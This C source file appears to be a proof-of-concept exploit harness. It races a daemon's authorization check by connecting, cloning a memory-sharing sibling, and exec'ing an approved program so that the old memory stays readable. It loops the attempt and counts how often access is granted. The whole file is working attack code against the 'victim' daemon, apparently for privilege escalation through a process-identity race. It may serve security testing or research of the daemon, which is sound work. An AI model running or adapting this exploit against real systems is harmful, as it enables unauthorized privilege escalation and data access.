/*
 * Connects, starts a sibling that shares its memory, and executes an approved program: the sibling keeps the old memory
 * alive, so that what the daemon opened of it can still be read.
 *
 *   sibling SOCKET REQUEST VICTIM         says "connected", goes on at a line of input, says "changed", goes on again
 *   sibling SOCKET REQUEST VICTIM COUNT   again and again without a word
 */
#include "attack.h"

static char **arguments;
static int *granted;

static int keep(void *unused)
{
    (void)unused;
    for (;;)
        pause();
}

static void word(const char *out)
{
    char byte;
    dprintf(1, "%s\n", out);
    while (read(0, &byte, 1) == 1 && byte != '\n')
        ;
}

static void attempt(int directed)
{
    int fd = dial(arguments[1], 0);
    if (directed)
        word("connected");
    char *stack = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    pid_t sibling = clone(keep, stack + (1 << 16), CLONE_VM | SIGCHLD, NULL);
    if (sibling < 0)
        fail("clone");
    say(fd, arguments[2]);
    if (fork() == 0) {
        pid_t victim = getppid();
        if (directed) {
            until_named(victim, "waiting");
            word("changed");
        }
        *granted += show(fd);
        kill(sibling, SIGKILL);
        kill(victim, SIGKILL);
        _exit(0);
    }
    execl(arguments[3], arguments[3], NULL);
    fail("exec");
}

int main(int argc, char **argv)
{
    arguments = argv;
    granted = shared();
    int count = argc > 4 ? atoi(argv[4]) : 1;
    for (int i = 0; i < count; i++) {
        if (fork() == 0)
            attempt(argc == 4);
        wait(NULL);
    }
    printf("%d of %d granted\n", *granted, count);
    return 0;
}
